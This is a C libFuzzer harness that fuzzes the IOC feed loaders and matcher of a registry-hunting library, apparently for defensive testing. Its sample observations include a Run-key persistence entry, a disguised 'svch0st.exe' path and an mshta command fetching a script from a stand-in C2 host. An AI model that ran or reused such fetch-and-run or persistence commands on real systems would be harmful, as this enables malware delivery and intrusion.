/*
 * libFuzzer target: the IOC feed loaders (include/reghunt/ioc.h): any bytes as a feed (the
 * sniff picks STIX, MISP or a plain list), then the prefilter build and one match.
 * Seeds: fuzz/corpus/ioc_feed/ (the fixtures of tests/data/ioc/ and truncated variants).
 */
#include <stddef.h>
#include <stdint.h>

#include <string.h>

#include "reghunt/ioc.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    rh_ctx *ctx = NULL;
    rh_ioc_set *s = NULL;
    rh_ioc_matcher *m = NULL;
    const rh_ioc_hit *hits;
    size_t nh, i;
    static const rh_ioc_obs obs[] = {
        {RH_IOC_OBS_REG_KEY, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", 50, "k"},
        {RH_IOC_OBS_VALUE_NAME, "WinUpdate", 9, "n"},
        {RH_IOC_OBS_COMMAND_LINE, "mshta http://evil-c2.example/u.ps1 198.51.100.7", 47, "c"},
        {RH_IOC_OBS_PATH, "C:\\ProgramData\\svch0st.exe", 26, "p"},
        {RH_IOC_OBS_HOSTNAME, "stage.evil-c2.example", 21, "h"}};
    if (rh_ctx_create(NULL, &ctx) != RH_OK) {
        return 0;
    }
    if (rh_ioc_create(ctx, NULL, &s) == RH_OK) {
        (void)rh_ioc_load_mem(s, "fuzz", data, size);
        if (rh_ioc_finish(s) == RH_OK && rh_ioc_matcher_create(s, &m) == RH_OK) {
            (void)rh_ioc_match(m, obs, sizeof(obs) / sizeof(obs[0]), &hits, &nh);
            for (i = 0; i < nh; i++) {
                (void)strlen(hits[i].ind->id);
            }
        }
        for (i = 0; i < rh_ioc_expired_count(s); i++) {
            (void)rh_ioc_expired_at(s, i);
        }
    }
    rh_ioc_matcher_destroy(m);
    rh_ioc_destroy(s);
    rh_ctx_destroy(ctx);
    return 0;
}
